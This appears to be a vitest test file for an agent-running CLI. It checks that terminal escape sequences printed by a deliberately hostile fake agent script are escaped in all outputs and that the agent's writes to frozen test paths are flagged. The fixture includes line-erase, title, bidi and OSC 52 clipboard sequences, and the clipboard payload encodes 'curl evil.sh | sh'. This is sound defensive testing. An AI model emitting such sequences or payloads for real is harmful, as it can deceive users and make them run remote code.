/**
 * What an agent writes reaches the user's terminal only as text: through the real binary, without
 * a terminal (the plain output of CI and `| tee`), an agent prints the sequences a terminal obeys
 * (erase the line above, set the window's title, write the clipboard, the 8-bit CSI, a
 * right-to-left override) and makes a file whose name holds ESC and BEL in the frozen test/ (so
 * that the TAMPERED line names it). A check prints a file the agent wrote, so that its output's
 * tail in report.md carries the same. Neither the run's stdout and stderr, nor report.md, report.json,
 * `bestof show` and `bestof show --json` hold one raw control byte; each shows the attempt escaped.
 */
import { chmodSync, readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { runCli } from '../helpers/cli.js';
import { makeProject, specToml, type Project } from '../helpers/project.js';
import type { ReportJson } from '../helpers/run-record.js';

let project: Project | undefined;
afterEach(() => project?.cleanup());

/**
 * The agent: fixes add(), then prints each sequence on a line of its own, and on stderr the last
 * line a crash message would quote; makes the file with ESC and BEL in its name under the frozen
 * test/, and notes.txt (which the `notes` check prints) with the same sequences.
 */
const AGENT = `#!/bin/bash
printf 'export const add = (a, b) => a + b;\\n' > src/add.mjs
printf 'erase: \\033[1A\\033[2K\\n'
printf 'title: \\033]0;pwned-title\\007\\n'
printf 'title by ST: \\033]2;pwned-st\\033\\\\\\n'
printf 'clipboard: \\033]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\007\\n'
printf 'c1 csi: \\302\\2332K\\n'
printf 'bidi: user\\342\\200\\256nimda\\n'
printf 'tricked\\n' > "test/evil-$(printf '\\033]0;name\\007').txt"
printf 'check sees: \\033[2K\\302\\233J \\342\\200\\256 end\\n' > notes.txt
`;

const CHECKS = `
[checks]
frozen = ["test/**"]

[[checks.items]]
name = "tests"
command = "node --test test/add.test.mjs"
score = 10
timeout = "60s"

[[checks.items]]
name = "notes"
command = "cat notes.txt; exit 1"
score = 1
timeout = "60s"
`;

/** Anything a terminal would act on: C0 but tab and newline (ESC, BEL, CR among them), DEL, C1, bidi controls. */
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

/** The raw control characters in a text, each as its code point, for a message that says which. */
function rawControls(text: string): string[] {
  return [...text].filter((ch) => RAW_CONTROL.test(ch)).map((ch) => `U+${(ch.codePointAt(0) ?? 0).toString(16).padStart(4, '0')}`);
}

describe('an agent that prints terminal escape sequences and names a file with them', () => {
  it('reaches the plain output, report.md, report.json and `bestof show` escaped, never raw', async () => {
    project = makeProject();
    const agent = project.writeOutside('agent.sh', AGENT);
    chmodSync(agent, 0o755);
    const body = `[parallel]\ncandidates = 1\n[provider]\nkind = "command"\ncommand = ${JSON.stringify(agent)}\n${CHECKS}\n[select]\nmerge = "branch"\n`;
    const spec = project.writeOutside('spec.toml', specToml(project.repo.dir, body));
    const run = await runCli(['run', spec], { cwd: project.repo.dir, worktreesDir: project.worktreesDir });
    const all = run.stdout + run.stderr;
    expect(all).not.toContain('internal error');

    const runs = join(project.repo.dir, '.bestof', 'runs');
    const runId = readdirSync(runs)[0] as string;
    const reportMd = readFileSync(join(runs, runId, 'report.md'), 'utf8');
    const reportJsonText = readFileSync(join(runs, runId, 'report.json'), 'utf8');
    const show = await runCli(['show', runId], { cwd: project.repo.dir });
    const showJson = await runCli(['show', runId, '--json'], { cwd: project.repo.dir });
    expect([show.code, showJson.code], show.stderr + showJson.stderr).toEqual([0, 0]);

    const outputs = {
      stdout: run.stdout,
      stderr: run.stderr,
      'report.md': reportMd,
      'report.json': reportJsonText,
      show: show.stdout + show.stderr,
      'show --json': showJson.stdout + showJson.stderr,
    };
    for (const [name, text] of Object.entries(outputs)) expect(rawControls(text), `${name}:\n${text}`).toEqual([]);

    // The file really has ESC and BEL in its name, and report.json says so (JSON.parse gives it back).
    const report = JSON.parse(reportJsonText) as ReportJson;
    const c1 = report.candidates[0];
    expect(c1?.tampered, all).toBe(true);
    expect(c1?.tamperedPaths.map((p) => p.path)).toContain('test/evil-\u001b]0;name\u0007.txt');

    // What the user sees instead: each attempt, escaped.
    expect(run.stdout).toContain('c1 | erase: \\u001b[1A\\u001b[2K');
    expect(run.stdout).toContain('c1 | title: \\u001b]0;pwned-title\\u0007');
    expect(run.stdout).toContain('c1 | title by ST: \\u001b]2;pwned-st\\u001b\\');
    expect(run.stdout).toContain('c1 | clipboard: \\u001b]52;c;');
    expect(run.stdout).toContain('c1 | c1 csi: \\u009b2K');
    expect(run.stdout).toContain('c1 | bidi: user\\u202enimda');
    expect(run.stdout).toContain('c1 TAMPERED with frozen paths (put back for scoring): test/evil-\\u001b]0;name\\u0007.txt (added)');
    for (const text of [reportMd, show.stdout]) {
      expect(text).toContain('tampered with test/evil-\\u001b]0;name\\u0007.txt');
      // The failed check's output, in its fence (the check's runner removes the 7-bit CSI when it
      // records the tail, src/checks/run-checks.ts outputTail; the 8-bit one and the bidi override stay for the report to escape).
      expect(text).toContain('check sees: \\u009bJ \\u202e end');
    }
  });
});
